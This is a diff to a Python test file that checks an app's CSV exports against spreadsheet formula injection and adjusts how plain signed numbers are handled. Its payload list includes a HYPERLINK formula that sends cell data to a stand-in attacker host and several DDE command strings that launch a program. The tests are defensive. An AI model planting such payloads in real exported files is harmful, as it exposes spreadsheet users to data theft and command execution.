@@ -7,6 +7,7 @@ import ast
 import csv
 import datetime as dt
 import io
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -34,12 +35,13 @@ SAFE_WRITER = ROOT / "data_access" / "tabular.py"
 # What a spreadsheet would run: the probe's HYPERLINK, DDE, and the other starts.
 PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
-            "\uff1d1+1", "\uff0bcmd", "\uff0d1", "\uff20SUM(A1)", "-12")
+            "\uff1d1+1", "\uff0bcmd", "\uff0d1", "\uff20SUM(A1)", "-12+1")
 
 
 def runnable(text: str) -> bool:
-    """Whether a CSV cell's text would be read as a formula (a leading quote disarms it)."""
-    return text.startswith(FORMULA_STARTS)
+    """Whether a CSV cell's text would be read as a formula (a leading quote disarms it; a
+    plain number such as -3 is read as that number)."""
+    return text.startswith(FORMULA_STARTS) and re.fullmatch(r"[+-]?\d+(\.\d+)?", text) is None
 
 
 def runnable_cells(text: str) -> list[str]:
@@ -60,6 +62,12 @@ def test_numbers_stay_numbers_and_missing_values_are_empty() -> None:
     assert text.splitlines()[1] == "-3,-2.5,,"
     assert list(csv.reader(io.StringIO(csv_text([["a\rb", "c\nd"]])))) == [["a\rb", "c\nd"]]
     assert inert_cell("plain text") == "plain text"
+
+
+@pytest.mark.parametrize("typed", ["-3", "+2.5", "-0.125"])
+def test_plain_numbers_typed_as_text_are_kept_as_typed(typed: str) -> None:
+    assert inert_cell(typed) == typed
+    assert csv_text([[typed]]).strip() == typed
 
 
 # --- every file the app writes ------------------------------------------------------------
@@ -83,7 +91,7 @@ def test_cli_import_report_is_inert(setup, tmp_path: Path) -> None:  # noqa: F81
     values = [r["value"] for r in csv.DictReader(io.StringIO(text))]
     assert len(values) > len(PAYLOADS), "the payloads must reach the report to prove anything"
     assert runnable_cells(text) == []
-    assert "'" + PAYLOADS[0] in values and "'-12" in values
+    assert "'" + PAYLOADS[0] in values and "'-12+1" in values
 
 
 def test_rejected_rows_download_is_inert() -> None:
@@ -91,7 +99,7 @@ def test_rejected_rows_download_is_inert() -> None:
                "value": payload} for i, payload in enumerate(PAYLOADS)]
     text = rejects_csv(errors)
     assert runnable_cells(text) == []
-    assert "'-12" in {row[2] for row in csv.reader(io.StringIO(text))}
+    assert "'-12+1" in {row[2] for row in csv.reader(io.StringIO(text))}
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
